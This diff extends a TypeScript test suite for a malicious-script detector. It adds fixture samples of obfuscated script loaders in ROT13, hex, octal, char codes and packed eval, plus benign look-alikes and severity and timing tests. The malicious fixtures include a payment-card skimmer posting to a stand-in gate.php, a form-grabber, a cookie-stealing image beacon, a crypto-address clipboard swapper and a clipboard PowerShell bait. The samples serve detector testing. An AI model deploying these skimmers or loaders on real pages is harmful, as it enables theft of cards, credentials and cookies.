@@ -28,7 +28,82 @@ const percents = (text: string): string =>
 const base64 = (text: string): string => Buffer.from(text).toString('base64')
 const loader = `(function(){var s=document.createElement('script');s.src='https://cdn.bad-host.test/a.js';document.head.appendChild(s);})();`
 
+const moved = (text: string, by: number): string =>
+  JSON.stringify(
+    text
+      .split('')
+      .map((letter) => String.fromCharCode(letter.charCodeAt(0) + by))
+      .join(''),
+  )
+const hex = (text: string): string => Buffer.from(text).toString('hex')
+const write = `<script src="https://a.test/l.js"></script>`
+
 const malicious: readonly [string, string][] = [
+  [
+    'moves the letters of a text',
+    `var s=${moved(write, 1)},m='';for(i=0;i<s.length;i++)m+=String.fromCharCode(s.charCodeAt(i)-1);document.write(m)`,
+  ],
+  [
+    'moves the letters by thirteen',
+    `var e=document.createElement('script');e.src='uggcf://pqa.onq.grfg/n.wf'.replace(/[a-z]/g,function(c){return String.fromCharCode(122>=(c=c.charCodeAt(0)+13)?c:c-26)});document.head.append(e)`,
+  ],
+  [
+    'writes two digits a letter',
+    `var h='${hex(loader)}',r='';for(i=0;i<h.length;i+=2)r+=String.fromCharCode(parseInt(h.substr(i,2),16));run(r);document.write(r)`,
+  ],
+  ['keeps numbers of letters', `new Function(new TextDecoder().decode(new Uint8Array([${codes(loader)}])))()`],
+  [
+    'loads from itself',
+    `var s=document.createElement('script');s.src='data:text/javascript;base64,${base64(loader)}';h.append(s)`,
+  ],
+  ['lists pieces', `var s=document.createElement('script');s.src=['ht','tps',':/','/a.te','st/x.js'].join('');h.append(s)`],
+  ['spells', `var s=document.createElement(['s','c','r','i','p','t'].join(''));s.src=u;h.append(s)`],
+  [
+    'fills templates with pieces',
+    `const s=document[\`cre\${"ate"}Element\`](\`scr\${"ipt"}\`);s.src=\`ht\${"tps"}://a.test/x.js\``,
+  ],
+  [
+    'writes in octal',
+    `document.write("${write
+      .split('')
+      .map((letter) => `\\${letter.charCodeAt(0).toString(8)}`)
+      .join('')}")`,
+  ],
+  [
+    'hides a list of strings',
+    `function l(){const n=['block','style'];l=function(){return n;};return l();}const k=f;function f(v){return l()[v-0xb1];}`,
+  ],
+  ['cuts names', `a['get'+'Ele'+'ment'](b)['val'+'ue'];c['len'+'gth'];d['app'+'end'](e)`],
+  [
+    'runs an answer',
+    `var x=new XMLHttpRequest();x.onload=function(){eval(x.responseText)};if(document.referrer)x.open('GET','//a.test/p'),x.send()`,
+  ],
+  ['runs what listeners of a socket hear', `new WebSocket('wss://a.test').addEventListener('message',e=>{Function(e.data)()})`],
+  ['runs a picture', `var d=x.getImageData(0,0,9,9).data,s='';for(k=0;k<99;k+=4)s+=String.fromCharCode(d[k]);new Function(s)()`],
+  [
+    'sends the form of a card',
+    `setInterval(function(){if(document.getElementsByName('payment[cc_number]')[0].value.length==16&&document.getElementsByName('payment[cc_cid]')[0].value)jQuery.ajax({url:'https://g.test/gate.php?host='+location.host,data:jQuery('form').serialize(),type:'POST'})},700)`,
+  ],
+  [
+    'reads all fields',
+    `document.querySelector('#place_order').addEventListener('click',()=>{const o={};document.querySelectorAll('input,select').forEach(e=>{o[e.name]=e.value});fetch('https://g.test/c',{method:'POST',mode:'no-cors',body:btoa(JSON.stringify(o))})})`,
+  ],
+  [
+    'hides in a packed counter',
+    `eval(function(p,a,c,k,e,r){return p}('1.2(3 4(\\'5\\',{6:\\'7://8.9/a.b\\'}))',12,12,'x|head|appendChild|new|Element|script|src|https|bad|test|a|js'.split('|'),0,{}))`,
+  ],
+  [
+    'swaps addresses for money',
+    `document.addEventListener('copy',function(e){if(/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(getSelection())){e.clipboardData.setData('text/plain',w)}})`,
+  ],
+  [
+    'baits with what it decodes',
+    `var c=atob('${base64('powershell -nop -enc SQBFAFgA')}');b.onclick=()=>navigator.clipboard.writeText(c)`,
+  ],
+  [
+    'sends a long address with cookies',
+    `(new Image()).src='http://z.test/?l='+escape(location)+'&t=${'x'.repeat(700)}&cookie='+escape(document.cookie)`,
+  ],
   ['runs character codes', `eval(String.fromCharCode(${codes(loader)}))`],
   [
     'writes a tag in character codes',
@@ -82,6 +157,43 @@ const malicious: readonly [string, string][] = [
 
 /** As they stand on pages everywhere. */
 const benign: readonly [string, string][] = [
+  [
+    'a doorkeeper',
+    `(function(){var z='',b='${hex(`var s=document.createElement('script');s.src='/_Incapsula_Resource?a=1';document.head.appendChild(s)`)}';for(var i=0;i<b.length;i+=2)z+=parseInt(b.substring(i,i+2),16)+',';eval(eval('String.fromCharCode('+z.slice(0,-1)+')'))})()`,
+  ],
+  [
+    'another doorkeeper',
+    `var e=eval,sucuri_cloudproxy_js='',S='${base64("document.cookie='sucuri_cloudproxy_uuid=1;path=/'; location.reload();")}',r='';A='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';e(r)`,
+  ],
+  ['links that are decoded when they are clicked', `a.onclick=function(){window.location.href=atob(this.dataset.href)}`],
+  [
+    'a counter that knows a cookie',
+    `function c(n){return document.cookie.match(n)}(new Image).src='https://count.test/p.gif?r='+escape(document.referrer)+'&i='+c('u')`,
+  ],
+  [
+    'a cookie banner',
+    `var o={cookie:{expiryDays:365}};n=['cc-type-'+t];document.cookie=n;fetch('https://geo.test').then(function(r){i.value=JSON.stringify(r)});a.addEventListener('x',f)`,
+  ],
+  [
+    'fields that a recorder leaves out',
+    `if(!/^cc|cardnum|ccnum|creditcard|csc|cvc|cvv|exp|pass|securitycode/.test(e.name))fetch('https://r.test',{body:JSON.stringify(e.value)});a.addEventListener('x',f)`,
+  ],
+  [
+    'names of old plugins',
+    `['AcroPDF.PDF','ADODB.Stream','WScript.Shell','Shell.UIHelper'].map(function(n){try{new window.ActiveXObject(n)}catch(e){}});${'f();'.repeat(2_500)}`,
+  ],
+  [
+    'a button that copies how to install',
+    `b.onclick=()=>navigator.clipboard.writeText('curl -fsSL https://tool.test/install.sh | sh')`,
+  ],
+  [
+    'a form for a customer register',
+    `f.onsubmit=function(){var d={};this.querySelectorAll('input,select').forEach(function(e){d[e.name]=e.value});fetch('https://crm.test/leads',{method:'POST',body:JSON.stringify(d)})}`,
+  ],
+  [
+    'a login',
+    `f.onsubmit=async()=>{const r=await fetch('https://auth.test/login',{method:'POST',body:JSON.stringify({p:document.querySelector('[name=password]').value})});if(r.ok)location.href='/home'}`,
+  ],
   [
     'an old counter',
     `document.write(unescape("%3Cscript src='" + h + "google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));`,
@@ -144,6 +256,10 @@ describe('with a baseline', () => {
     expect(after(page(inline(loader))).severity).toBe('high')
     expect(after(page(inline('eval(x)'))).severity).toBe('low')
     expect(after(page('<iframe src="https://a.test/" width=1 height=1></iframe>')).severity).toBe('high')
+    expect(after(page('<div style="position:absolute;top:-1200px"><iframe src="https://a.test/"></iframe></div>')).severity).toBe(
+      'high',
+    )
+    expect(after(page(inline(`$('body').append('<scr'+'ipt src="https://a.test/a.js"></scr'+'ipt>')`))).severity).toBe('high')
     expect(after(page('<script src="https://widget.test/w.js"></script>')).severity).toBe('low')
     expect(after(page('<script src="https://stat1.cheap-ads.top/w.js"></script>')).severity).toBe('high')
   })
@@ -179,6 +295,13 @@ test.each([
   'atob ',
   'document.write(',
   '<iframe',
+  "'<input ",
+  "['a'+'b']",
+  "['a'].join('')",
+  'fetch( eval https://a.test/ .text() =>',
+  'charCodeAt(i)-1 fromCharCode "abcdefghijklmnopq"',
+  'window.open(',
+  'ab|cvv|cvc|',
 ])('is done in time with nothing but %s', (piece) => {
   const started = performance.now()
   analyseScripts(piece.repeat(Math.ceil(65_536 / piece.length)))
